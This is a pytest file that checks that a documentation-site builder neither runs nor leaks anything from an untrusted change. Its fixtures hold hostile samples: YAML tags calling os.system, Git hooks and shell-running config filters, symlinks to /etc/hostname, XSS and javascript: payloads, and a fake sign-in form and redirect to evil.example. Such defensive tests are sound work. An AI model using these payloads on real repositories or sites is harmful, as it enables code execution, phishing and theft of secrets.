"""A site of a change that anybody may have proposed: none of its code is run, nothing beside its texts gets out."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest

from tests.captured import capture, sealed
from tests.cli.programme import AS_OF, CAPTURED_AT, FILES, TIEOUT, git, plant, tieout
from tests.site import crawl
from tests.site.hostile import policy

UNREAD = [f"policies/{name}.md" for name in ("env", "inner", "link", "python", "turned")]
"""Texts that no page shows: links, tags of YAML, a title that turns its line around."""
RUNS = """\
import os, pathlib
pathlib.Path(os.environ["CANARY_FILE"]).write_text(__file__)
"""
"""Of each piece of code in the repository: that it ran shows in a file outside."""
TAGGED = """\
site_name: !ENV CANARY_ENV
repo_url: !!python/object/apply:os.system ["touch $CANARY_FILE"]
hooks: [hook.py]
plugins: [search, macros, {gen-files: {scripts: [hook.py]}}]
theme: {name: material, custom_dir: overrides}
markdown_extensions: [{pymdownx.snippets: {base_path: [., ..]}}, attr_list, md_in_html]
extra_javascript: [evil.js]
"""
SNIPPETS = """\
# Snippets

--8<-- ".git/config"

--8<-- "secret.txt"

{! secret.txt !} {% include "secret.txt" %} {{ config.site_name }} {{ cycler.__init__.__globals__.os.environ }}

<script>document.title = "CANARY-SCRIPT-" + "RAN"</script>
<img src=x onerror="document.title='CANARY-HANDLER-' + 'RAN'">
[a](javascript:alert`1`) [b](data:text/html;base64,PHNjcmlwdD4=) ![c](data:image/svg+xml,<svg/onload=alert(1)>) [d](//evil.example/x)

[e](#x){: onclick="alert(1)" style="background:url(//evil.example)" }

::: evil
    handler: python

```{.python exec="1"}
open("/etc/hostname").read()
```

<div markdown="1" onmouseover=alert(1)>x</div>

!!! danger "<svg onload=alert(1)>"
"""
FURNITURE = """\
# Furniture

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>

<style>.md-content, table { display: none }</style> <link rel="stylesheet" href="//evil.example/x.css">

<base href="https://evil.example/"> <object data="drawing.svg"></object> <embed src="drawing.svg">

![drawing](drawing.svg) [m]( javascript:alert(1)) [n](java&#115;cript:alert(1)) [o](&#x6A;avascript:alert(1))

# A second first heading

Text with \u202eoverride\u202c, \u2066isolate\u2069 and zero\u200bwidth, then WORD.

| WORD | b | c |
|---|---|---|
| WORD | b | c |

[WORD](https://example.com/WORD)
""".replace("WORD", "w" * 3_000)
OURS = (
    "mkdocs",
    "material",
    "markdown",
    "yaml",
    "jinja2",
    "search",
    "sitecustomize",
    "usercustomize",
    "babel",
    "pymdownx",
)
CHANGE = {
    **FILES,
    "mkdocs.yml": TAGGED,
    "properdocs.yml": TAGGED,
    "zensical.toml": '[project]\nsite_name = "CANARY-TOML"\nhooks = ["hook.py"]\n',
    "hook.py": RUNS,
    "main.py": RUNS,
    **{f"{name}.py": RUNS for name in OURS},
    "overrides/main.html": "CANARY-THEME {{ 7*7 }}",
    "overrides/partials/search.html": "CANARY-THEME",
    "overrides/404.html": "CANARY-THEME",
    "evil.js": "document.title = 'CANARY-JS'",
    "docs/index.md": "CANARY-DOCS",
    "secret.txt": "CANARY-SECRET",
    ".gitattributes": "*.md filter=evil diff=evil merge=evil export-subst\n",
    "policies/snippets.md": policy(40, title="{{ 7*7 }} <script>x</script>", body=SNIPPETS),
    "policies/env.md": policy(41, title="PLACE").replace('"PLACE"', "!ENV CANARY_ENV"),
    "policies/python.md": policy(42, title="PLACE").replace('"PLACE"', '!!python/object/apply:os.system ["touch $CANARY_FILE"]'),
    "policies/furniture.md": policy(44, title='A "b" <meta http-equiv=refresh> </title>', body=FURNITURE)
    .replace("owner: role:lead", 'owner: "<img src=x onerror=alert(1)> </script>"')
    .replace('version: "1.0"', 'version: "<i>1</i>"'),
    "policies/drawing.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "policies/new\nline.md": policy(45, title="New line"),
    "policies/\"quo'te<b>&.md": policy(46, title="Quotes"),
    "policies/\u202egnp.md": policy(47, title="Turned"),
    "policies/%2e%2e%2fup.md": policy(48, title="Percent"),
    "policies/#hash?query.md": policy(49, title="Hash"),
    f"policies/{'n' * 240}.md": policy(51, title="Long"),
    "policies/turned.md": policy(52, title="Turned \u202etitle"),
    "policies/many.md": policy(43, body="# Many\n\n" + "[" * 20_000 + "\n\n" + "> " * 400 + "x\n"),
}  # fmt: skip


@pytest.fixture(scope="module")
def change(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str], Path]:
    """Give a repository whose every file and setting tries to be run, the environment, and the file that tells of it."""
    scratch = tmp_path_factory.mktemp("change")
    ran = scratch / "ran"
    root = plant(scratch / "repository", CHANGE)
    for name, target in (("link.md", "/etc/hostname"), ("inner.md", "../secret.txt"), ("loop", "."), ("out", "/etc")):
        (root / "policies" / name).symlink_to(target)
    git(root, "add", "--all")
    git(root, "commit", "--quiet", "--message", "Links")
    shell = f"sh -c 'echo $0 > {ran}'"
    for hook in ("post-checkout", "pre-commit", "fsmonitor-watchman", "post-index-change", "reference-transaction"):
        (root / ".git/hooks" / hook).write_text(f"#!/bin/sh\necho {hook} > {ran}\n")
        (root / ".git/hooks" / hook).chmod(0o755)
    for key in (
        "core.fsmonitor",
        "core.pager",
        "diff.evil.textconv",
        "filter.evil.clean",
        "filter.evil.smudge",
        "gpg.program",
    ):
        git(root, "config", key, shell)
    git(root, "config", "user.token", "CANARY-TOKEN")
    environment = {**os.environ, "CANARY_FILE": str(ran), "CANARY_ENV": "CANARY-ENV", "CI": "true"}
    return root, environment, ran


def run(change: tuple[Path, dict[str, str], Path], *argv: str, said: Sequence[str] = ()) -> None:
    root, environment, _ = change
    command = [str(TIEOUT), "site", "--as-of", AS_OF, *argv]
    done = subprocess.run(command, cwd=root, env=environment, capture_output=True, text=True, timeout=300, check=False)
    named = re.findall(r"^tieout: not in the site: (policies/\w+\.md):", done.stderr, re.MULTILINE)
    images = re.findall(r"^tieout: image not shown: (\S+?):[0-9:]+ (.*)$", done.stderr, re.MULTILINE)
    assert (done.returncode, named) == (0, UNREAD)
    assert images == ([] if "public" in argv else [("policies/furniture.md", "drawing.svg: SVG is not shown")])
    rest = re.sub(
        r"^tieout: (?:not in the site|image not shown): .*\n  next: .*\n", "", done.stderr, flags=re.MULTILINE
    )
    assert [line.partition(":")[0] for line in rest.splitlines()] == [*said]


def texts(folder: Path) -> dict[str, str]:
    assert not any(path.is_symlink() for path in folder.rglob("*"))
    return {
        path.relative_to(folder).as_posix(): path.read_text("utf-8", "replace")
        for path in folder.rglob("*")
        if path.is_file()
    }


def test_the_bird_would_sing(change: tuple[Path, dict[str, str], Path]) -> None:
    root, environment, ran = change
    for program in ("hook.py", "yaml.py", ".git/hooks/pre-commit"):
        argv = [sys.executable, program] if program.endswith(".py") else [f"./{program}"]
        subprocess.run(argv, cwd=root, env=environment, check=True, timeout=60)
        assert ran.exists()
        ran.unlink()


@pytest.mark.parametrize("audience", ["internal", "auditor", "public"])
def test_nothing_of_the_repository_runs_and_nothing_but_texts_gets_out(
    change: tuple[Path, dict[str, str], Path], tmp_path: Path, audience: str
) -> None:
    """Hooks of MkDocs and of Git, macros, themes, tags in YAML, modules of our names, filters, symbolic links."""
    run(change, "--out", str(tmp_path / "site"), "--audience", audience)
    assert not change[2].exists(), change[2].read_text()
    found = texts(tmp_path / "site")
    shown = {
        path: text
        for path, text in found.items()
        if "CANARY-" in text.replace("CANARY-SCRIPT-", "").replace("CANARY-HANDLER-", "")
    }
    assert shown == {}
    hostname = Path("/etc/hostname").read_text().strip()
    pages = crawl.read(tmp_path / "site")
    assert not any(hostname and hostname in page.text for page in pages.values())
    assert crawl.dead_ends(tmp_path / "site", pages) == []
    assert not any("hook" in path or "evil" in path or "overrides" in path for path in found)


def test_a_text_that_tries_to_run_is_shown_as_text(change: tuple[Path, dict[str, str], Path], tmp_path: Path) -> None:
    run(change, "--out", str(tmp_path / "site"))
    page = crawl.read(tmp_path / "site")["policies/snippets.html"]
    plain = crawl.read(tmp_path / "site")["policies/data-classification.html"]
    assert page.handlers == []
    assert len(page.scripts) == len(plain.scripts)
    assert {"iframe", "img", "svg", "object", "embed", "style"} & set(page.tags) <= set(plain.tags)
    schemes = {address.partition(":")[0] for _, address in page.links if ":" in address}
    assert schemes <= {"https", "http", "mailto"}
    assert not any(address.startswith("//") or "evil" in address for _, address in page.links)
    for words in ('--8<-- ".git/config"', "{{ config.site_name }}", "<script>document.title", "::: evil", "onerror="):
        assert words in page.text.replace("\u201c", '"').replace("\u201d", '"')
    assert page.title.startswith("{{ 7*7 }} <script>x</script>")


def test_no_text_redirects_signs_in_hides_or_turns_anything_around(
    change: tuple[Path, dict[str, str], Path], tmp_path: Path
) -> None:
    """Meta refresh, forms, style sheets, bases, drawings with scripts, markup in a head, odd names, turned letters."""
    run(change, "--out", str(tmp_path / "site"))
    pages = crawl.read(tmp_path / "site")
    page, plain = pages["policies/furniture.html"], pages["policies/data-classification.html"]
    for tag in ("form", "input", "button", "style", "base", "object", "embed", "img", "meta", "link", "script"):
        assert page.tags.count(tag) <= plain.tags.count(tag), tag
    for said in ('http-equiv="refresh"', "<form action=", "<style>.md-content", "<base href=", "<img src=x onerror="):
        assert said in page.text.replace("\u201c", '"').replace("\u201d", '"')
    for path, one in pages.items():
        assert one.handlers == []
        assert not {address.partition(":")[0] for _, address in one.links if ":" in address} - {
            "https",
            "http",
            "mailto",
        }
        # The theme's own signs of width are none of the text's.
        assert not set(one.text) & set("\u202e\u202c\u2066\u2069\ufeff"), path
    assert "\\u202eoverride" in page.text
    assert not list((tmp_path / "site").rglob("*drawing*"))
    names = {path.relative_to(tmp_path / "site").as_posix() for path in (tmp_path / "site").rglob("*.html")}
    assert all(name.isascii() and name.isprintable() and not set(name) & set("\"'<>&#?%\\: ") for name in names)
    assert "<style>" in pages["findings.html"].text


def test_the_staged_sources_run_nothing_either_when_mkdocs_builds_them(
    change: tuple[Path, dict[str, str], Path], tmp_path: Path
) -> None:
    root, environment, ran = change
    run(change, "--stage", str(tmp_path / "staged"), said=["next"])
    argv = [
        sys.executable,
        "-P",
        "-m",
        "mkdocs",
        "build",
        "--quiet",
        "--strict",
        "--config-file",
        str(tmp_path / "staged/mkdocs.yml"),
    ]
    done = subprocess.run(
        [*argv, "--site-dir", str(tmp_path / "built")], cwd=root, env=environment, capture_output=True, text=True,
        timeout=300, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert not ran.exists()
    for text in (*texts(tmp_path / "staged").values(), *texts(tmp_path / "built").values()):
        assert "CANARY-" not in text.replace("CANARY-SCRIPT-", "").replace("CANARY-HANDLER-", "")


def test_what_is_published_is_as_the_base_has_it_where_the_settings_are_taken_from_there(tmp_path: Path) -> None:
    """A change that widens the documents to any file publishes none of them; without the base it would."""
    root = plant(tmp_path / "programme", {**FILES, "notes.md": policy(50, title="Notes")})
    wide = FILES["controls.yaml"].replace('policies: ["policies/**/*.md"]', 'policies: ["policies/**/*.md", "*.md"]')
    assert wide != FILES["controls.yaml"]
    git(root, "switch", "--quiet", "--create", "change")
    (root / "controls.yaml").write_text(wide)
    git(root, "commit", "--quiet", "--all", "--message", "Widen")
    for argv, there in ((("--settings-from", "main"), False), ((), True)):
        out = tmp_path / str(there)
        command = [str(TIEOUT), "site", "--root", str(root), "--as-of", AS_OF, "--out", str(out), *argv]
        subprocess.run(command, check=True, capture_output=True, timeout=120)
        assert (out / "notes.html").is_file() is there


def test_a_change_that_lowers_the_class_of_captures_publishes_none_of_them(tmp_path: Path) -> None:
    """With the settings of the base a capture that says nothing stays confidential; without them it would not."""
    silent = sealed(capture(CAPTURED_AT, title="CANARY-CAPTURE", classification=""), CAPTURED_AT)
    files = {path: text for path, text in FILES.items() if not path.startswith("evidence/")}
    root = plant(tmp_path / "programme", {**files, **{path: data.decode() for path, data in silent.items()}})
    git(root, "switch", "--quiet", "--create", "change")
    low = FILES["controls.yaml"].replace("controls:\n", "evidence: {classification: internal}\ncontrols:\n", 1)
    (root / "controls.yaml").write_text(low)
    git(root, "commit", "--quiet", "--all", "--message", "Lower it")
    for argv, there in ((("--settings-from", "main"), False), ((), True)):
        out = tmp_path / str(there)
        done = tieout("site", "--root", str(root), "--as-of", AS_OF, "--out", str(out), *argv)
        assert done.returncode == 0, done.told
        assert any("CANARY-CAPTURE" in text for text in texts(out).values()) == there
